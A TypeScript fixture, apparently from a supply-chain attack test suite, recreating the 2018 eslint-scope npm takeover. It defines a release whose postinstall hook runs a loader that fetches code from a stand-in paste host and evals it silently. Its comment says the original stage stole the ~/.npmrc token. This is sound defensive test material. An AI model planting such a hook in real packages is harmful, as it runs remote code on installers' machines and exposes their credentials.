import { defineAttack } from "../attack.ts";
import { smallLibrary } from "../bases.ts";
import { commonScript } from "../guard.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * eslint-scope 3.7.2, 12 July 2018: a maintainer's reused password. A new `postinstall` fetched its second stage from a
 * paste site and evaluated it; that stage sent the token of `~/.npmrc`. Reproduced: hook, loader, and the reading stage.
 */
export const eslintScope2018: Sample = defineAttack({
  id: "eslint-scope-2018",
  title: "A hook that evaluates what a paste site serves",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "eslint-scope", version: "3.7.2" }],
  now: "2018-07-12T09:50:00Z",
  createLines: () => [
    {
      name: "eslint-scope",
      files: smallLibrary("eslint-scope"),
      publisher: person("eslint"),
      releases: [
        ["3.7.0", "2017-02-16T18:00:00Z"],
        ["3.7.1", "2017-04-12T18:00:00Z"],
        ["4.0.0", "2018-06-23T03:00:00Z"],
        [
          "3.7.2",
          "2018-07-12T09:49:00Z",
          {
            hasCommit: false,
            manifest: { scripts: { test: "node --test", postinstall: "node ./lib/build.js" } },
            files: [{ path: "lib/build.js", content: loader }],
          },
        ],
      ],
    },
  ],
});

const loader = commonScript(String.raw`
try {
  const https = require("https");
  https.get(
    { hostname: "pastes.invalid", path: "/raw/XLeVP82h", headers: { "User-Agent": "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0", Accept: "text/html" } },
    (response) => {
      response.setEncoding("utf8");
      response.on("data", (chunk) => { eval(chunk); });
      response.on("error", () => {});
    },
  ).on("error", () => {});
} catch (e) {}
`);
